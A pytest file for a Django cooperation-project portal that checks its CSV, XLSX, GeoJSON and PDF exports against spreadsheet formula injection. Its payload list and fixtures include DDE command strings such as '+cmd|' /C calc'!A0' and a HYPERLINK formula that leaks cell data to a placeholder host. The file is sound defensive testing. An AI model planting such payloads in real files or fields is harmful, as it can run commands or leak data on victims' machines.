"""Formula injection and odd characters in every file the portal writes (issue 5).

A title typed as ``=HYPERLINK(…)`` by one person must not run in another's spreadsheet: the CSV files quote
such text cells (``coopdec.spreadsheet``) and the import of the open-data files takes the quote
off again, so that export → import gives back the exact text; numbers stay numbers. XLSX cells are always
strings, never formulas, and no character a database can hold makes the workbook unreadable; GeoJSON and
PDF take any text. (The portal writes no IATI XML yet: there is nothing of it to test.)
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from coopdec.atlas.models import Contact, Participant, Partnership, Project
from coopdec.atlas.tests import factories
from coopdec.exports.atlas_tables import TABLES
from coopdec.exports.formats.columns import Column
from coopdec.exports.formats.csv import csv_chunks
from coopdec.exports.formats.geojson import geojson_chunks
from coopdec.exports.formats.pdf import project_sheet_pdf, search_report_pdf
from coopdec.exports.formats.sheet import project_sheet
from coopdec.exports.formats.xlsx import xlsx_chunks
from coopdec.orgs.models import Organisation
from coopdec.spreadsheet import from_spreadsheet_safe, spreadsheet_safe

from .conftest import empty_atlas, export

TRIGGERS = "=+-@\t\r"
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=déjà précédé d'une apostrophe",
    "''+deux apostrophes",
]
# Characters outside XML 1.0 (C0 controls but tab, line feed and carriage return; U+FFFE, U+FFFF).
XML_ILLEGAL = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20)]) + "\ufffe\uffff"


def text_columns(count):
    return [Column(f"c{n}", f"Colonne {n}", "string", lambda row, n=n: row[n]) for n in range(count)]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return cell[:1] in set(TRIGGERS)


# ------------------------------------------------------------------------------------- the quoting rule


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_looks_like_a_formula_is_quoted_and_comes_back_whole(text):
    safe = spreadsheet_safe(text)
    assert safe == "'" + text
    assert from_spreadsheet_safe(safe) == text


@pytest.mark.parametrize("text", ["", "'", "'apostrophe", "a=b", "plain", "é=", " =1+1", "1-2"])
def test_other_text_is_left_alone(text):
    assert spreadsheet_safe(text) == text
    assert from_spreadsheet_safe(text) == text


@pytest.mark.fuzz
@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab ,\"\n"), max_size=8) | st.text(max_size=12))
def test_quoting_is_reversible_and_never_leaves_a_formula(text):
    safe = spreadsheet_safe(text)
    assert from_spreadsheet_safe(safe) == text
    assert not dangerous(safe)


# ------------------------------------------------------------------------------------- the writers alone


def test_csv_quotes_text_cells_and_leaves_numbers_alone():
    columns = [
        *text_columns(2),
        Column("amount", "Montant", "number", lambda row: row[2]),
        Column("longitude", "Longitude", "number", lambda row: row[3]),
    ]
    rows = [[payload, "x", Decimal("-1250.50"), -6.25] for payload in PAYLOADS]
    rows.append(["ordinaire", "-", Decimal("12.00"), 2.5])
    parsed = read_csv(b"".join(csv_chunks(columns, rows)))
    assert parsed[0] == ["c0", "c1", "amount", "longitude"]
    for row, payload in zip(parsed[1:], PAYLOADS, strict=False):
        assert row == ["'" + payload, "x", "-1250.50", "-6.25"]
    assert parsed[-1] == ["ordinaire", "'-", "12.00", "2.5"]
    assert not any(dangerous(cell) for row in parsed for cell in row[:2])


def test_csv_quotes_a_formula_in_any_column_with_a_byte_order_mark():
    rows = [["a", "b", "=1+1"], ["=1+1", "b", "c"], ["a", "@x", "c"]]
    parsed = read_csv(b"".join(csv_chunks(text_columns(3), rows, bom=True)))
    assert parsed[1:] == [["a", "b", "'=1+1"], ["'=1+1", "b", "c"], ["a", "'@x", "c"]]


def assert_sound_workbook(data: bytes) -> list[tuple]:
    """Parse every XML part with the standard library (as strict as Excel about characters), check that no
    cell is a formula, and return the first sheet's values as openpyxl reads them."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            ET.fromstring(archive.read(name))  # noqa: S314 - the workbook this test just wrote
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    namespace = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    cells = ET.fromstring(sheet_xml).iter(f"{namespace}c")  # noqa: S314 - written by this test
    assert not any(cell.find(f"{namespace}f") is not None for cell in cells)
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return list(sheet.values)


def test_xlsx_writes_formula_like_text_as_strings_exactly():
    data = b"".join(xlsx_chunks(text_columns(1), [[payload] for payload in PAYLOADS]))
    values = assert_sound_workbook(data)
    # The text as it was, unquoted (a carriage return included: it is written as &#13;).
    assert [row[0] for row in values[1:]] == PAYLOADS


@pytest.mark.parametrize("fast", [True, False], ids=["plain-row", "row-with-escapes"])
def test_xlsx_survives_every_character_xml_refuses(fast):
    """C0 controls, U+FFFE and U+FFFF are dropped, a lone surrogate becomes "?": the workbook opens."""
    text = "début" + XML_ILLEGAL + "\ud800fin"
    rows = [[text, "plain"]] if fast else [[text, "a & b < c"]]
    values = assert_sound_workbook(b"".join(xlsx_chunks(text_columns(2), rows)))
    assert values[1][0] == "début?fin"


def test_geojson_takes_any_text():
    text = "=1+1 " + XML_ILLEGAL + " \ud800 fin"
    data = b"".join(geojson_chunks(text_columns(1), [[text]], lambda row: (None, {})))
    (feature,) = json.loads(data)["features"]
    assert feature["properties"]["c0"] == text.replace("\ud800", "?")


def test_csv_takes_a_lone_surrogate():
    parsed = read_csv(b"".join(csv_chunks(text_columns(1), [["a\ud800b"]])))
    assert parsed[1] == ["a?b"]


# ------------------------------------------------------------------------------------- the portal's files


@pytest.fixture
def hostile_atlas(atlas):
    """The small Atlas with formula-like and odd text in its names, titles and descriptions."""
    from coopdec.search import index

    Organisation.objects.filter(slug="region-grand-est").update(name='=HYPERLINK("http://x.invalid","R")')
    Partnership.all_objects.filter(slug="grand-est-saint-louis").update(title="+cmd|' /C calc'!A0")
    Project.all_objects.filter(slug="patrimoine-saint-louis").update(
        title="@SUM(1+1)*cmd|' /C calc'!A0",
        description="\t=1+1 indentée\r\nsuite",
        objectives="-2+3",
        results="'=déjà quotée",
    )
    Project.all_objects.filter(slug="echanges-scolaires-dresde").update(
        title="Contrôle\x01\x02 et \ufffe\uffff non-caractères « » €", description="-"
    )
    Participant.objects.filter(name="Association Les Amis de Saint-Louis").update(role="=ROLE()")
    Contact.objects.filter(name="Claire Martin").update(function="@fonction")
    index.rebuild()


@pytest.mark.django_db
def test_export_then_import_gives_back_the_exact_text(hostile_atlas, tmp_path):
    first = export(tmp_path / "first")
    for table in TABLES:
        texts = [index for index, column in enumerate(table.columns) if column.type == "string"]
        for row in read_csv((first / table.filename).read_bytes())[1:]:
            assert not any(dangerous(row[index]) for index in texts), (table.filename, row)
    projects = {row["slug"]: row for row in csv.DictReader(open(first / "projects.csv", encoding="utf-8"))}
    assert projects["patrimoine-saint-louis"]["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert projects["patrimoine-saint-louis"]["results"] == "''=déjà quotée"
    package = json.loads((first / "datapackage.json").read_text(encoding="utf-8"))
    assert package["x-formula-prefix"] == "'"
    assert "apostrophe" in package["description"]

    before = {(p.slug, p.title, p.description, p.objectives, p.results) for p in Project.all_objects.all()}
    empty_atlas()
    call_command("import_atlas", str(first), verbosity=0)
    after = {(p.slug, p.title, p.description, p.objectives, p.results) for p in Project.all_objects.all()}
    assert after == before
    assert Organisation.objects.get(slug="region-grand-est").name == '=HYPERLINK("http://x.invalid","R")'
    assert Partnership.all_objects.get(slug="grand-est-saint-louis").title == "+cmd|' /C calc'!A0"
    assert Participant.objects.filter(role="=ROLE()").exists()
    assert Contact.objects.filter(function="@fonction").exists()
    second = export(tmp_path / "second")
    for table in TABLES:
        assert (second / table.filename).read_bytes() == (first / table.filename).read_bytes()


@pytest.mark.django_db
def test_formula_like_cells_of_a_hand_made_file_are_stored_as_they_are(atlas, tmp_path):
    """Without the export's quote the text is data, kept exactly: the quoting is only the export's."""
    from .test_import_errors import set_cell

    directory = export(tmp_path)
    path = directory / "projects.csv"
    for slug, title in (
        ("patrimoine-saint-louis", '=HYPERLINK("x")'),
        ("echanges-scolaires-dresde", "\r-2+3"),
    ):
        set_cell(path, slug, "title", title)
    call_command("import_atlas", str(directory), verbosity=0)
    assert Project.all_objects.get(slug="patrimoine-saint-louis").title == '=HYPERLINK("x")'
    assert Project.all_objects.get(slug="echanges-scolaires-dresde").title == "\r-2+3"


@pytest.mark.django_db
def test_api_exports_of_hostile_text(client, hostile_atlas):
    title = "@SUM(1+1)*cmd|' /C calc'!A0"
    response = client.get("/api/v1/projects?format=csv")
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))
    header = rows[0]
    by_slug = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    heritage = by_slug["patrimoine-saint-louis"]
    assert heritage["title"] == "'" + title
    assert heritage["partnership_title"] == "'+cmd|' /C calc'!A0"
    assert heritage["lead_authority_name"] == '\'=HYPERLINK("http://x.invalid","R")'
    assert not any(dangerous(cell) for row in rows for cell in row)

    response = client.get("/api/v1/projects?format=xlsx")
    values = assert_sound_workbook(b"".join(response.streaming_content))
    titles = {row[1] for row in values[1:]}
    assert title in titles
    assert "Contrôle et  non-caractères « » €" in titles

    response = client.get("/api/v1/projects?format=geojson")
    features = json.loads(b"".join(response.streaming_content))["features"]
    assert {f["properties"]["title"] for f in features} >= {
        title,
        "Contrôle\x01\x02 et \ufffe\uffff non-caractères « » €",
    }

    response = client.get("/api/v1/authorities?format=csv")
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert '\'=HYPERLINK("http://x.invalid","R")' in names
    longitudes = [row[rows[0].index("longitude")] for row in rows[1:]]
    assert any(value.startswith("-") for value in longitudes)  # a number: not quoted


@pytest.mark.django_db
def test_pdf_sheet_and_report_take_odd_text(client, hostile_atlas):
    for slug in ("patrimoine-saint-louis", "echanges-scolaires-dresde"):
        response = client.get(f"/api/v1/projects/{slug}?format=pdf")
        assert response.status_code == 200
        assert response.content.startswith(b"%PDF-") and response.content.rstrip().endswith(b"%%EOF")
    response = client.get("/api/v1/projects?format=pdf")
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF-")


def test_pdf_writers_take_every_character():
    """Direct calls with what no database holds (NUL, lone surrogates) and what Windows-1252 lacks."""
    odd = "=1+1 \x00\x01\x1f \ufffe\uffff \ud800 ĉ 中文 😀 (parenthèse) \\ fin"
    report = search_report_pdf(
        title=odd,
        criteria=[(odd, odd)],
        count=0,
        figures=[(odd, [(odd, 1)])],
        rows=[],
        generated_at=datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC),
    )
    assert report.startswith(b"%PDF-") and report.rstrip().endswith(b"%%EOF")


@pytest.mark.django_db
def test_pdf_sheet_of_a_project_with_control_characters(atlas):
    Project.all_objects.filter(slug="patrimoine-saint-louis").update(
        title="Titre \x01\x07\x1b\ufffe\uffff", description="=1+1\t\x0b\x0c fin"
    )
    sheet = project_sheet("patrimoine-saint-louis")
    data = project_sheet_pdf(sheet)
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")


@pytest.mark.django_db
def test_correspondents_directory_files(client, reference_data):
    from coopdec.correspondents.models import CorrespondentProfile
    from coopdec.orgs.tests.personas import make_user

    embassy = factories.EmbassyFactory(name="=Ambassade")
    user = make_user("corr", embassy, "correspondant", function="+33 1 23 45 67 89")
    user.first_name, user.last_name = "@Anne", "-Marie"
    user.save()
    CorrespondentProfile.objects.create(user=user, public_email="anne@example.org", public_phone="+221 33")
    response = client.get("/correspondants/export/csv/")
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["embassy"], row["name"], row["function"], row["phone"]) == (
        "'=Ambassade",
        "'@Anne -Marie",
        "'+33 1 23 45 67 89",
        "'+221 33",
    )
    response = client.get("/correspondants/export/xlsx/")
    values = assert_sound_workbook(b"".join(response.streaming_content))
    assert values[1][3:6] == ("=Ambassade", "@Anne -Marie", "+33 1 23 45 67 89")


@pytest.mark.django_db
def test_saved_extractions_are_quoted_too(hostile_atlas, tmp_path, settings):
    from coopdec.exports.formats.rows import project_rows
    from coopdec.workspace.extractions import chunks_for
    from coopdec.workspace.models import Extraction

    rows = project_rows(Project.objects.order_by("slug"))
    parsed = read_csv(b"".join(chunks_for(Extraction.Format.CSV, rows)))
    assert not any(dangerous(cell) for row in parsed for cell in row)
    assert any(cell == "'@SUM(1+1)*cmd|' /C calc'!A0" for row in parsed for cell in row)


def test_no_other_csv_writer_escapes_this_module():
    """Every CSV writer of the app code goes through csv_chunks or the open-data writer, both tested here,
    except the search's cross-table (codes and reference labels; see the note in the report)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not any(part.endswith("tests") for part in path.parts)
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    )
    assert writers == ["exports/formats/csv.py", "exports/writer.py", "search/views.py"]
